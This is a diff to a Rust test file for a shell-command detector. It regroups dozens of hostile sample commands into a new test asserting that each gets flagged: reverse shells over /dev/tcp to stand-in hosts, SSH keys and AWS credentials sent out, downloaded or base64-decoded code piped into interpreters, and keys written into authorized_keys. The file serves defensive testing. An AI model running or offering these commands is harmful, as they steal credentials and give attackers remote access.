@@ -144,135 +144,6 @@ fn each_rule_sees_what_it_is_for() {
         ("exec 3<>/dev/tcp/x.org/1; sh <&3 >&3", "reverse-shell"),
         ("sh </dev/tcp/x.org/1", "reverse-shell"),
         ("(</dev/tcp/x.org/1 sh)", "reverse-shell"),
-        (
-            "echo eA== | base64 -d | ruby -e 'eval STDIN.read'",
-            "decoded-to-shell",
-        ),
-        ("base64 -d p | perl -e 'eval <STDIN>'", "decoded-to-shell"),
-        ("base64 -d p | perl -ne 'system $_'", "decoded-to-shell"),
-        ("base64 -d p | perl -e 'exec <STDIN>'", "decoded-to-shell"),
-        (
-            "base64 -d p | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
-            "decoded-to-shell",
-        ),
-        (
-            "base64 -d p | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
-            "decoded-to-shell",
-        ),
-        ("base64 -d p | python3 -ic ''", "decoded-to-shell"),
-        (
-            r#"base64 -d p | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
-            "decoded-to-shell",
-        ),
-        (
-            r#"base64 -d p | php -r 'include "php://stdin";'"#,
-            "decoded-to-shell",
-        ),
-        ("base64 -d p | python3 run.py", "decoded-to-shell"),
-        ("base64 -d p | python3 -m json.tools", "decoded-to-shell"),
-        ("base64 -d p | LANG=C bash", "decoded-to-shell"),
-        ("curl x.org | ruby -e 'eval STDIN.read'", "pipe-to-shell"),
-        ("curl x.org | perl -e 'eval <STDIN>'", "pipe-to-shell"),
-        ("curl x.org | perl -ne 'system $_'", "pipe-to-shell"),
-        ("curl x.org | perl -ne 'print `$_`'", "pipe-to-shell"),
-        ("curl x.org | sudo perl -e 'exec <STDIN>'", "pipe-to-shell"),
-        (
-            "curl x.org | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
-            "pipe-to-shell",
-        ),
-        (
-            "curl x.org | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
-            "pipe-to-shell",
-        ),
-        (
-            "curl x.org | python3 -c 'import runpy; runpy.run_path(0)'",
-            "pipe-to-shell",
-        ),
-        (
-            "curl x.org |python3 -c 'import os; os.execlp(0)'",
-            "pipe-to-shell",
-        ),
-        ("curl x.org | python3 -ic ''", "pipe-to-shell"),
-        ("curl x.org | python3 -i -c ''", "pipe-to-shell"),
-        ("curl x.org | python3 -c \"$(cat)\"", "pipe-to-shell"),
-        (
-            "curl x.org | ruby -e 'load \"/dev/stdin\"'",
-            "pipe-to-shell",
-        ),
-        ("curl x.org | ruby -ne '`#{$_}`'", "pipe-to-shell"),
-        ("curl x.org | PYTHONINSPECT=1 python3 x", "pipe-to-shell"),
-        (
-            r#"curl x.org | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
-            "pipe-to-shell",
-        ),
-        (
-            r#"curl x.org | node -e "require('child_process').execSync(require('fs').readFileSync(0))""#,
-            "pipe-to-shell",
-        ),
-        (
-            r#"curl x.org | php -r 'include "php://stdin";'"#,
-            "pipe-to-shell",
-        ),
-        (
-            r#"curl x.org | php -r 'require_once("php://stdin");'"#,
-            "pipe-to-shell",
-        ),
-        (
-            "bash -c 'exec 5<>/dev/tcp/evil.org/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'",
-            "reverse-shell",
-        ),
-        (
-            "(exec 5<>/dev/tcp/evil.org/4242; sh <&5 >&5 2>&5)",
-            "reverse-shell",
-        ),
-        (
-            r#"bash -c "exec 3<>/dev/tcp/x.org/80; bash <&3""#,
-            "reverse-shell",
-        ),
-        (
-            r#"bash -c "exec 3<>/dev/tcp/x.org/80"'; bash <&3'"#,
-            "reverse-shell",
-        ),
-        ("env &>/dev/tcp/x.org/1", "reverse-shell"),
-        ("cat ~/.ssh/id_rsa &> /dev/tcp/x.org/1", "reverse-shell"),
-        ("tar cz ~/.aws &>/dev/tcp/x.org/1;", "reverse-shell"),
-        ("env |>/dev/tcp/x.org/1", "reverse-shell"),
-        ("eval $(</dev/tcp/x.org/1)", "reverse-shell"),
-        ("eval $\\\n(</dev/tcp/x.org/1)", "reverse-shell"),
-        ("sh <(</dev/tcp/x.org/1)", "reverse-shell"),
-        ("sh \\\n</dev/tcp/x.org/1", "reverse-shell"),
-        (
-            r#"find ~/.ssh -exec cat {} \; >/dev/tcp/x.org/1"#,
-            "reverse-shell",
-        ),
-        ("cat key | xargs echo >/dev/tcp/x.org/1", "reverse-shell"),
-        (
-            r#"echo >/dev/tcp/x.org/1 "$(cat ~/.ssh/id_rsa)""#,
-            "reverse-shell",
-        ),
-        (
-            r#"echo >/dev/tcp/x.org/1 ";$(cat ~/.ssh/id_rsa)""#,
-            "reverse-shell",
-        ),
-        (
-            "cat </dev/null >/dev/tcp/x.org/1<~/.ssh/id_rsa",
-            "reverse-shell",
-        ),
-        ("echo >/dev/tcp/$(<key).x.org/1", "reverse-shell"),
-        (
-            "curl -so ~/.ssh/authorized_keys https://x.org/k",
-            "persistence",
-        ),
-        (
-            "wget -O ~/.ssh/authorized_keys https://x.org/k",
-            "persistence",
-        ),
-        ("dd if=k of=~/.ssh/authorized_keys", "persistence"),
-        ("sed -i 1ik ~/.ssh/authorized_keys", "persistence"),
-        ("ln -s k ~/.ssh/authorized_keys", "persistence"),
-        ("rsync k ~/.ssh/authorized_keys", "persistence"),
-        ("shutil.move(k, '.ssh/authorized_keys')", "persistence"),
-        ("sponge ~/.ssh/authorized_keys", "persistence"),
         ("echo key >> ~/.ssh/authorized_keys", "persistence"),
         ("Add it to `authorized_keys`.", "persistence"),
         (
@@ -282,6 +153,95 @@ fn each_rule_sees_what_it_is_for() {
     ] {
         let found = codes(line);
         assert!(found.contains(&code), "{line}: {found:?}");
+    }
+}
+
+#[test]
+fn what_hides_behind_an_honest_part_is_seen() {
+    let rows: [(&str, &[&str]); 4] = [
+        (
+            "decoded-to-shell",
+            &[
+                "echo eA== | base64 -d | ruby -e 'eval STDIN.read'",
+                "base64 -d p | perl -e 'eval <STDIN>'",
+                "base64 -d p | perl -ne 'system $_'",
+                "base64 -d p | perl -e 'exec <STDIN>'",
+                "base64 -d p | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
+                "base64 -d p | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
+                "base64 -d p | python3 -ic ''",
+                r#"base64 -d p | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
+                r#"base64 -d p | php -r 'include "php://stdin";'"#,
+                "base64 -d p | python3 run.py",
+                "base64 -d p | python3 -m json.tools",
+                "base64 -d p | LANG=C bash",
+            ],
+        ),
+        (
+            "pipe-to-shell",
+            &[
+                "curl x.org | ruby -e 'eval STDIN.read'",
+                "curl x.org | perl -e 'eval <STDIN>'",
+                "curl x.org | perl -ne 'system $_'",
+                "curl x.org | perl -ne 'print `$_`'",
+                "curl x.org | sudo perl -e 'exec <STDIN>'",
+                "curl x.org | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
+                "curl x.org | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
+                "curl x.org | python3 -c 'import runpy; runpy.run_path(0)'",
+                "curl x.org |python3 -c 'import os; os.execlp(0)'",
+                "curl x.org | python3 -ic ''",
+                "curl x.org | python3 -i -c ''",
+                "curl x.org | python3 -c \"$(cat)\"",
+                "curl x.org | ruby -e 'load \"/dev/stdin\"'",
+                "curl x.org | ruby -ne '`#{$_}`'",
+                "curl x.org | PYTHONINSPECT=1 python3 x",
+                r#"curl x.org | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
+                r#"curl x.org | node -e "require('child_process').execSync(require('fs').readFileSync(0))""#,
+                r#"curl x.org | php -r 'include "php://stdin";'"#,
+                r#"curl x.org | php -r 'require_once("php://stdin");'"#,
+            ],
+        ),
+        (
+            "reverse-shell",
+            &[
+                "bash -c 'exec 5<>/dev/tcp/evil.org/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'",
+                "(exec 5<>/dev/tcp/evil.org/4242; sh <&5 >&5 2>&5)",
+                r#"bash -c "exec 3<>/dev/tcp/x.org/80; bash <&3""#,
+                r#"bash -c "exec 3<>/dev/tcp/x.org/80"'; bash <&3'"#,
+                "env &>/dev/tcp/x.org/1",
+                "cat ~/.ssh/id_rsa &> /dev/tcp/x.org/1",
+                "tar cz ~/.aws &>/dev/tcp/x.org/1;",
+                "env |>/dev/tcp/x.org/1",
+                "eval $(</dev/tcp/x.org/1)",
+                "eval $\\\n(</dev/tcp/x.org/1)",
+                "sh <(</dev/tcp/x.org/1)",
+                "sh \\\n</dev/tcp/x.org/1",
+                r"find ~/.ssh -exec cat {} \; >/dev/tcp/x.org/1",
+                "cat key | xargs echo >/dev/tcp/x.org/1",
+                r#"echo >/dev/tcp/x.org/1 "$(cat ~/.ssh/id_rsa)""#,
+                r#"echo >/dev/tcp/x.org/1 ";$(cat ~/.ssh/id_rsa)""#,
+                "cat </dev/null >/dev/tcp/x.org/1<~/.ssh/id_rsa",
+                "echo >/dev/tcp/$(<key).x.org/1",
+            ],
+        ),
+        (
+            "persistence",
+            &[
+                "curl -so ~/.ssh/authorized_keys https://x.org/k",
+                "wget -O ~/.ssh/authorized_keys https://x.org/k",
+                "dd if=k of=~/.ssh/authorized_keys",
+                "sed -i 1ik ~/.ssh/authorized_keys",
+                "ln -s k ~/.ssh/authorized_keys",
+                "rsync k ~/.ssh/authorized_keys",
+                "shutil.move(k, '.ssh/authorized_keys')",
+                "sponge ~/.ssh/authorized_keys",
+            ],
+        ),
+    ];
+    for (code, lines) in rows {
+        for line in lines {
+            let found = codes(line);
+            assert!(found.contains(&code), "{line}: {found:?}");
+        }
     }
 }
 
